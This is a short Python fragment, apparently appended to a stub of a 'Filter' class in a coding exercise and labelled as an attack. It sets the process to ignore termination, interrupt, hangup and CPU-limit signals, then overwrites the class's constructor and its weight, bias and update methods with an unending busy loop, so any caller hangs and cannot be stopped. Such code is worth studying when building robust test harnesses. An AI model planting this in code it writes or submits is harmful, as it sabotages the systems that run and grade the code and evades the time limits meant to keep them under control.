

# --- the attack, appended to the stub --------------------------------------

import signal as _signal


def _attack(*args, **kwargs):
    for sig in (_signal.SIGTERM, _signal.SIGINT, _signal.SIGHUP, _signal.SIGXCPU):
        _signal.signal(sig, _signal.SIG_IGN)
    while True:
        pass


Filter.__init__ = Filter.get_weights = Filter.get_bias = Filter.update = _attack
